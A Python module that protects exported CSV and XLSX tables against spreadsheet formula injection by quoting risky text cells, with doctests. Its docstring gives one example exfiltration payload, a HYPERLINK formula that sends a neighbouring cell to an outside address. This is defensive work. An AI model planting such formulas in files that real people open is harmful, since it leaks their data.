"""Tables safe to open in a spreadsheet: no text cell becomes a formula.

A zone or commune name typed as ``=HYPERLINK("https://…?"&B2, "x")`` would
run as a formula when a partner opens the CSV or XLSX table, sending a
neighbouring cell away (CSV or formula injection). Following the OWASP *CSV
Injection* guidance, every text cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is neutralised:

* in CSV, it is prefixed with a single quote (``'=HYPERLINK…``), which
  spreadsheets show as text;
* in XLSX, it is written as a text cell (never a formula) with Excel's
  *quote prefix* style: the name is shown exactly as typed.

Every table writer of territobs goes through :func:`to_csv` or
:func:`protect_sheet`. Numbers are left alone (``-3`` stays a number).
"""

from __future__ import annotations

import os
from typing import Any

import pandas as pd

__all__ = [
    "FORMULA_TRIGGERS",
    "is_risky",
    "neutralise",
    "neutralise_frame",
    "protect_sheet",
    "to_csv",
]

#: First characters that make a spreadsheet read a text cell as a formula
#: (OWASP, *CSV Injection*).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_risky(value: Any) -> bool:
    """Whether ``value`` is text a spreadsheet could read as a formula.

    Examples
    --------
    >>> is_risky("=1+1"), is_risky("Saint-Denis"), is_risky(-3)
    (True, False, False)
    """
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def neutralise(value: Any) -> Any:
    """Prefix risky text with a single quote; return anything else unchanged.

    Examples
    --------
    >>> print(neutralise('=HYPERLINK("http://x")'))
    '=HYPERLINK("http://x")
    >>> neutralise("Bondy"), neutralise(2.5)
    ('Bondy', 2.5)
    """
    return "'" + value if is_risky(value) else value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``frame`` whose text cells and headers are neutralised.

    Parameters
    ----------
    frame : pandas.DataFrame
        Any table (geometry columns are left alone).

    Returns
    -------
    pandas.DataFrame
        Same shape and dtypes; only text cells starting with a formula
        trigger change (a ``'`` in front).
    """
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if series.dtype == object or isinstance(series.dtype, pd.StringDtype):
            risky = series.map(is_risky).astype(bool)
            if risky.any():
                out[column] = series.where(~risky, "'" + series.astype(str))
    out.columns = [neutralise(c) for c in out.columns]
    return out


def to_csv(
    frame: pd.DataFrame, path: str | os.PathLike[str] | None = None, **kwargs: Any
) -> str | None:
    """Write ``frame`` as CSV with its text cells neutralised.

    Parameters
    ----------
    frame : pandas.DataFrame
        The table.
    path : path-like, optional
        Where to write; ``None`` returns the text (as :meth:`DataFrame.to_csv`).
    **kwargs
        Passed to :meth:`pandas.DataFrame.to_csv` (``index=False``...).

    Returns
    -------
    str or None
        The CSV text when ``path`` is None.

    Examples
    --------
    >>> import pandas as pd
    >>> print(to_csv(pd.DataFrame({"nom": ["=1+2", "Aubervilliers"]}), index=False))
    nom
    '=1+2
    Aubervilliers
    <BLANKLINE>
    """
    return neutralise_frame(frame).to_csv(path, **kwargs)


def protect_sheet(sheet: Any) -> int:
    """Make every risky cell of an openpyxl worksheet plain text.

    openpyxl stores a string starting with ``=`` as a formula; such cells
    become text cells again, and every risky text cell gets Excel's *quote
    prefix* style (shown as typed, never evaluated, even after editing).

    Parameters
    ----------
    sheet : openpyxl.worksheet.worksheet.Worksheet
        A sheet being written (territobs never writes formulas).

    Returns
    -------
    int
        Number of cells neutralised.
    """
    changed = 0
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f" or is_risky(cell.value):
                cell.data_type = "s"
                cell.quotePrefix = True
                changed += 1
    return changed
